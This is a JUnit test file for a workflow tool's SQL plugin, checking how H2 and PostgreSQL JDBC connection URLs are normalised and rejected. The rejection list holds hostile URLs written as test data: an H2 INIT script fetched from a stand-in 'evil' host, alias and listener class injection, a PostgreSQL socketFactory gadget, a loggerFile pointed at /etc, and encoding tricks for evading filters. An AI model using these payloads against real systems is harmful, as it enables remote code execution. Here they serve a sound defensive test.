package dev.steadflow.plugin.sql;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import dev.steadflow.step.StepError;
import dev.steadflow.step.test.ScriptedContext;
import java.nio.file.Path;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class DatabaseUrlsTest {

    private final ScriptedContext context = new ScriptedContext(Path.of("/flows"));

    private Login login(String url) throws StepError {
        return DatabaseUrls.login(url, Optional.of("ada"), Optional.of("geheim"), context);
    }

    @ParameterizedTest
    @CsvSource({
            "jdbc:h2:./orders, jdbc:h2:file:/flows/orders",
            "jdbc:h2:orders;MODE=PostgreSQL, jdbc:h2:file:/flows/orders;MODE=PostgreSQL",
            "jdbc:h2:file:../x, jdbc:h2:file:/x",
            "jdbc:h2:/abs/orders, jdbc:h2:file:/abs/orders",
            "jdbc:h2:mem:a;DB_CLOSE_DELAY=-1, jdbc:h2:mem:a;DB_CLOSE_DELAY=-1",
            "jdbc:h2:tcp://localhost/x, jdbc:h2:tcp://localhost/x",
            "jdbc:postgresql://h/db?sslmode=require, jdbc:postgresql://h/db?sslmode=require"
    })
    void filesAreMeantFromTheWorkFolder(String given, String used) throws Exception {
        assertThat(login(given).url()).isEqualTo(used);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                    "jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                    "jdbc:h2:mem:a;init=CREATE ALIAS X AS 'x'",
                    "jdbc:h2:mem:a; INIT =SELECT 1",
                    "jdbc:h2:mem:a;\u0131nit=SELECT 1",
                    "jdbc:h2:mem:a;MODE=MySQL\\;INIT=SELECT 1",
                    "jdbc:h2:./a;TRACE_LEVEL_FILE=4",
                    "jdbc:h2:./a;AUTO_SERVER=TRUE",
                    "jdbc:h2:./a;DATABASE_EVENT_LISTENER='x.Y'",
                    "jdbc:h2:./a;JAVA_OBJECT_SERIALIZER='x.Y'",
                    "jdbc:h2:./a;AUTHENTICATOR=x",
                    "jdbc:h2:./a;PASSWORD=x",
                    "jdbc:h2:zip:a.zip!/x",
                    "jdbc:h2:split:./x",
                    "jdbc:h2:",
                    "jdbc:postgresql://h/db?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
                    "jdbc:postgresql://h/db?sslmode=require&loggerFile=/etc/x",
                    "jdbc:postgresql://h/db?%73ocketFactory=x",
                    "jdbc:postgresql://h/db?user=a&password=b",
                    "jdbc:oracle:thin:@h:1521:x",
                    "orders"
            })
    void whatCouldRunCodeOrIsUnknownIsRefused(String url) {
        assertThatExceptionOfType(StepError.class).isThrownBy(() -> login(url)).satisfies(error -> {
            assertThat(error.code()).isEqualTo("sql/BadUrl");
            assertThat(error.next()).isEqualTo(StepError.Next.FATAL);
        });
    }

    @Test
    void anUnknownDatabaseIsToldWhichOnesAreKnown() {
        assertThatExceptionOfType(StepError.class).isThrownBy(() -> login("jdbc:oracle:thin:@h:1521:x"))
                .withMessageContaining("jdbc:oracle:thin")
                .withMessageContaining("H2 (jdbc:h2:…), PostgreSQL (jdbc:postgresql://host/name)");
    }

    @Test
    void aLoginNeverShowsItsPassword() throws Exception {
        assertThat(login("jdbc:h2:./x")).asString().contains("ada").doesNotContain("geheim");
    }
}
